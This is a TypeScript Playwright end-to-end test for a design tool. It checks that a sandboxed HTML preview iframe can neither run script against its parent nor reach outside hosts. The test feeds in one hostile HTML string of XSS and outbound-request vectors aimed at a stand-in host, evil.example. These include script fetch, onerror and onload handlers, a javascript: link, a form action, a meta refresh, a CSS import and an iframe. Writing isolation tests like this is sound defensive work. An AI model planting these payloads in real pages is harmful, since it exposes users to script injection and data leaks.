/// <reference lib="dom" />
import { expect, it } from "vitest";
import type { Page } from "playwright-core";
import { exampleProjectOf, workspaceForFile } from "./testing/open-workspace.ts";

const workspace = await workspaceForFile({ EXAMPLE_PROJECT: "on" });
const ada = await workspace.signUp();
const project = await exampleProjectOf(ada);

const screens = (page: Page) => page.getByRole("main").getByRole("list", { name: "Screens" });
const frame = (page: Page, title: string) => page.frameLocator(`iframe[title="Preview of ${title}"]`);
const code = (page: Page) => page.getByRole("textbox", { name: /^HTML of/ });

async function replaceCode(page: Page, text: string): Promise<void> {
  await code(page).click();
  await page.keyboard.press("Control+A");
  await page.keyboard.insertText(text);
}

it("a preview can do nothing and reaches nothing", async () => {
  const { page } = await workspace.open("/model/ui-preview", { visitor: ada, project });
  await screens(page)
    .getByRole("button", { name: /^Pick list/ })
    .click();
  await page.getByRole("button", { name: "Code" }).click();
  const requests: string[] = [];
  page.on("request", (request) => requests.push(request.url()));

  await replaceCode(
    page,
    '<h1>Hostile</h1><script>parent.hit = 1; fetch("https://evil.example/a")</script><img src="https://evil.example/b.png" onerror="top.hit=1"><a href="javascript:top.hit=1">go</a><form action="https://evil.example/c"><button>send</button></form><meta http-equiv="refresh" content="0;url=https://evil.example/d"><style>@import url(https://evil.example/e);</style><svg onload="top.hit=1"></svg><iframe src="https://evil.example/f"></iframe>',
  );
  const shown = frame(page, "Pick list on the hand scanner");
  await shown.getByRole("heading", { name: "Hostile" }).waitFor();
  // By keyboard: in a scaled frame, Playwright checks the wrong place for the target of the mouse.
  await shown.getByRole("button", { name: "send" }).press("Enter");
  await page.locator("[data-save-state=clean]").waitFor();

  expect(await page.evaluate(() => "hit" in window)).toBe(false);
  expect(await page.locator("iframe").getAttribute("sandbox")).toBe("");
  expect(requests.filter((url) => !url.startsWith(workspace.server.address))).toEqual([]);
});
